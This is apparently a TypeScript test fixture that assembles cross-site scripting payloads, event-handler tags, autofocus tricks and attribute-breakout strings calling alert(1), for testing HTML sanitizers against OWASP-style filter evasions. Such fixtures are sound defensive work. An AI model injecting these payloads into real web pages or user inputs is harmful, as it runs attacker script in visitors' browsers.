/**
 * Texts that try to run a script in the browser of whoever reads them: the ways around filters that OWASP collects, and
 * those that cleaners of HTML are tested with. Each calls alert(1), asks evil.example, or takes the page over.
 */
import { frames, links } from './script-attacks-by-links.ts'
import { drawings, styles, wires } from './script-attacks-by-markup.ts'
import { pictures, plain } from './script-attacks-by-tags.ts'

const handlers = [
  ...['onfocus autofocus tabindex=1', 'onmouseover', 'onclick', 'onpointerrawupdate', 'onanimationstart'],
  ...['ontransitionend', 'onwheel', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onscrollend'],
]
const tags = ['p', 'a', 'b', 'h2', 'blockquote', 'li', 'td', 'custom-tag']

const onTags = tags.flatMap((tag) =>
  handlers.map((handler) => `<${tag} ${handler.replace(/^\w+/, '$&=alert(1)')}>press</${tag}>`),
)

const onOthers = [
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<body onhashchange=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<input onblur=alert(1) autofocus><input autofocus>',
  '<keygen autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button>press</button></form></dialog>',
  '<button popovertarget=x>press</button><div id=x popover onbeforetoggle=alert(1)>x</div>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',
  '`onmouseover=alert(1)',
  'x onerror=alert(1)',
]

/** Most first; whatever swallows all that follows, if anybody let it, comes last. */
export const scriptAttacks: readonly string[] = sortedBySwallowing([
  ...plain,
  ...pictures,
  ...links,
  ...frames,
  ...drawings,
  ...styles,
  ...wires,
  ...onTags,
  ...onOthers,
])

function sortedBySwallowing(attacks: readonly string[]): string[] {
  const swallows =
    /<(?:style|script|textarea|title|xmp|noscript|noembed|noframes|plaintext|iframe|listing|template|select|!|\?|math|svg|embed|object)/i
  const isCalm = (attack: string) => !swallows.test(attack)
  return [...attacks.filter(isCalm), ...attacks.filter((attack) => !isCalm(attack))]
}
